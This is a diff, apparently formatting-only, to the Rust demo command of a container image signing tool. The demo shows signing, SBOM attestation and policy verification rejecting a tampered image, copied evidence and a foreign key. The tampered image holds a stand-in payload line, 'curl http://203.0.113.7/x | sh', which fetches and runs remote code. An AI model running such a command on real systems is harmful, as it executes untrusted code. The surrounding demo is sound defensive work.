@@ -40,8 +40,11 @@ spec:
 
 pub(crate) fn run(arguments: &Demo, context: &mut Context<'_, '_>) -> Result<Done, Failure> {
     if context.global.offline {
-        return Err(Failure::usage("offline", "the demo talks to its own registry on loopback, which `--offline` forbids")
-            .hint("drop `--offline` (or COUNTERSIGN_OFFLINE); no other machine is contacted"));
+        return Err(Failure::usage(
+            "offline",
+            "the demo talks to its own registry on loopback, which `--offline` forbids",
+        )
+        .hint("drop `--offline` (or COUNTERSIGN_OFFLINE); no other machine is contacted"));
     }
     let folder = make_folder(&arguments.dir)?;
     let mut session = Session::new(context, folder.clone())?;
@@ -52,11 +55,17 @@ pub(crate) fn run(arguments: &Demo, context: &mut Context<'_, '_>) -> Result<Don
     outcome?;
     session.say("");
     session.say("That was all real. The folder is yours to go on with:");
-    session.say(&format!("  cd {}", escape::field(&arguments.dir.display().to_string())));
+    session.say(&format!(
+        "  cd {}",
+        escape::field(&arguments.dir.display().to_string())
+    ));
     session.say("  countersign registry serve --dir registry --listen 127.0.0.1:5000 &");
-    session.say("  countersign verify --allow-http --policy policy.yaml 127.0.0.1:5000/demo/app:2.0");
+    session
+        .say("  countersign verify --allow-http --policy policy.yaml 127.0.0.1:5000/demo/app:2.0");
     let steps = session.steps();
-    Ok(Done::pass(json!({"dir": folder.display().to_string(), "steps": steps})))
+    Ok(Done::pass(
+        json!({"dir": folder.display().to_string(), "steps": steps}),
+    ))
 }
 
 fn walk(session: &mut Session<'_, '_, '_>, folder: &Path, name: &str) -> Result<(), Failure> {
@@ -70,24 +79,50 @@ fn walk(session: &mut Session<'_, '_, '_>, folder: &Path, name: &str) -> Result<
     session.run(&["inspect", "oci:image:1.0"], ExitStatus::Pass)?;
 
     session.title("A key pair; the private key is encrypted with COUNTERSIGN_PASSWORD=demo");
-    session.run(&["generate-key-pair", "--output-key-prefix", "release"], ExitStatus::Pass)?;
+    session.run(
+        &["generate-key-pair", "--output-key-prefix", "release"],
+        ExitStatus::Pass,
+    )?;
 
     session.title("A registry on loopback, served by this process, and the image in it");
-    session.show(&["registry", "serve", "--dir", "registry", "--listen", name.split('/').next().unwrap_or_default()]);
+    session.show(&[
+        "registry",
+        "serve",
+        "--dir",
+        "registry",
+        "--listen",
+        name.split('/').next().unwrap_or_default(),
+    ]);
     let store = open(session, name)?;
     session.wait(genuine.push(store.as_ref(), "1.0"))?;
     session.note(&format!("pushed as {tagged}"));
 
     session.title("Nothing is signed yet, so nothing passes");
-    session.run(&["verify", "--allow-http", "--key", "release.pub", &tagged], ExitStatus::NoEvidence)?;
+    session.run(
+        &["verify", "--allow-http", "--key", "release.pub", &tagged],
+        ExitStatus::NoEvidence,
+    )?;
 
     session.title("Sign it: by digest, with the key alone, no service is asked");
-    session.run(&["sign", "--allow-http", "--key", "release.key", &tagged], ExitStatus::Pass)?;
+    session.run(
+        &["sign", "--allow-http", "--key", "release.key", &tagged],
+        ExitStatus::Pass,
+    )?;
 
     session.title("Attest its SBOM, byte for byte as it is");
     write(folder, "sbom.spdx.json", genuine.sbom().as_bytes())?;
     session.run(
-        &["attest", "--allow-http", "--key", "release.key", "--type", "spdxjson", "--predicate", "sbom.spdx.json", &tagged],
+        &[
+            "attest",
+            "--allow-http",
+            "--key",
+            "release.key",
+            "--type",
+            "spdxjson",
+            "--predicate",
+            "sbom.spdx.json",
+            &tagged,
+        ],
         ExitStatus::Pass,
     )?;
     session.run(&["discover", "--allow-http", &tagged], ExitStatus::Pass)?;
@@ -96,29 +131,63 @@ fn walk(session: &mut Session<'_, '_, '_>, folder: &Path, name: &str) -> Result<
     write(folder, "policy.yaml", POLICY.as_bytes())?;
     session.document("policy.yaml", POLICY);
     session.run(&["policy", "check", "policy.yaml"], ExitStatus::Pass)?;
-    session.run(&["verify", "--allow-http", "--policy", "policy.yaml", &tagged], ExitStatus::Pass)?;
+    session.run(
+        &["verify", "--allow-http", "--policy", "policy.yaml", &tagged],
+        ExitStatus::Pass,
+    )?;
 
     session.title("Somebody pushes another image under the same tag");
     let tampered = SmallImage::new("#!/bin/sh\necho hello; curl http://203.0.113.7/x | sh\n");
     session.wait(tampered.push(store.as_ref(), "1.0"))?;
     session.note(&format!("{tagged} is {} now", tampered.digest()));
-    session.run(&["verify", "--allow-http", "--policy", "policy.yaml", &tagged], ExitStatus::NoEvidence)?;
+    session.run(
+        &["verify", "--allow-http", "--policy", "policy.yaml", &tagged],
+        ExitStatus::NoEvidence,
+    )?;
 
     session.title("They copy the genuine signature and SBOM to it, which are about another digest");
     let copied = session.wait(image::copy_evidence(store.as_ref(), &genuine, &tampered))?;
-    session.note(&format!("{copied} bundles attached to {}", tampered.digest()));
-    session.run(&["verify", "--allow-http", "--policy", "policy.yaml", &tagged], ExitStatus::NoneAcceptable)?;
+    session.note(&format!(
+        "{copied} bundles attached to {}",
+        tampered.digest()
+    ));
+    session.run(
+        &["verify", "--allow-http", "--policy", "policy.yaml", &tagged],
+        ExitStatus::NoneAcceptable,
+    )?;
 
     session.title("They sign it with a key of their own");
-    session.run(&["generate-key-pair", "--output-key-prefix", "intruder"], ExitStatus::Pass)?;
-    session.run(&["sign", "--allow-http", "--key", "intruder.key", &tagged], ExitStatus::Pass)?;
-    session.run(&["verify", "--allow-http", "--key", "release.pub", &tagged], ExitStatus::NoneAcceptable)?;
+    session.run(
+        &["generate-key-pair", "--output-key-prefix", "intruder"],
+        ExitStatus::Pass,
+    )?;
+    session.run(
+        &["sign", "--allow-http", "--key", "intruder.key", &tagged],
+        ExitStatus::Pass,
+    )?;
+    session.run(
+        &["verify", "--allow-http", "--key", "release.pub", &tagged],
+        ExitStatus::NoneAcceptable,
+    )?;
 
     session.title("The genuine image, by its digest, still passes; so it goes back under a tag");
     let pinned = format!("{name}@{}", genuine.digest());
-    session.run(&["verify", "--allow-http", "--policy", "policy.yaml", &pinned], ExitStatus::Pass)?;
+    session.run(
+        &["verify", "--allow-http", "--policy", "policy.yaml", &pinned],
+        ExitStatus::Pass,
+    )?;
     session.wait(genuine.push(store.as_ref(), "2.0"))?;
-    session.run(&["verify", "--allow-http", "--policy", "policy.yaml", &format!("{name}:2.0"), &tagged], ExitStatus::NoneAcceptable)?;
+    session.run(
+        &[
+            "verify",
+            "--allow-http",
+            "--policy",
+            "policy.yaml",
+            &format!("{name}:2.0"),
+            &tagged,
+        ],
+        ExitStatus::NoneAcceptable,
+    )?;
     Ok(())
 }
 
@@ -131,17 +200,29 @@ fn open(session: &Session<'_, '_, '_>, name: &str) -> Result<Box<dyn Store>, Fai
 
 /// Makes the folder, which must not exist or be empty: nothing of anybody's is written over.
 fn make_folder(path: &Path) -> Result<std::path::PathBuf, Failure> {
-    std::fs::create_dir_all(path).map_err(|error| Failure::unwritable("the folder", path, &error))?;
-    let mut entries = std::fs::read_dir(path).map_err(|error| Failure::unreadable("the folder", path, &error))?;
+    std::fs::create_dir_all(path)
+        .map_err(|error| Failure::unwritable("the folder", path, &error))?;
+    let mut entries =
+        std::fs::read_dir(path).map_err(|error| Failure::unreadable("the folder", path, &error))?;
     if entries.next().is_some() {
-        return Err(Failure::usage("folder-not-empty", format!("the folder `{}` is not empty", path.display()))
-            .hint("remove it, or choose another with `--dir DIR`"));
+        return Err(Failure::usage(
+            "folder-not-empty",
+            format!("the folder `{}` is not empty", path.display()),
+        )
+        .hint("remove it, or choose another with `--dir DIR`"));
     }
-    path.canonicalize().map_err(|error| Failure::unreadable("the folder", path, &error))
+    path.canonicalize()
+        .map_err(|error| Failure::unreadable("the folder", path, &error))
 }
 
 fn write(folder: &Path, name: &str, bytes: &[u8]) -> Result<(), Failure> {
-    files::write("the file", &folder.join(name), bytes, Audience::Everybody, Existing::Keep)
+    files::write(
+        "the file",
+        &folder.join(name),
+        bytes,
+        Audience::Everybody,
+        Existing::Keep,
+    )
 }
 
 /// What a store is asked for when an image is looked up by digest.
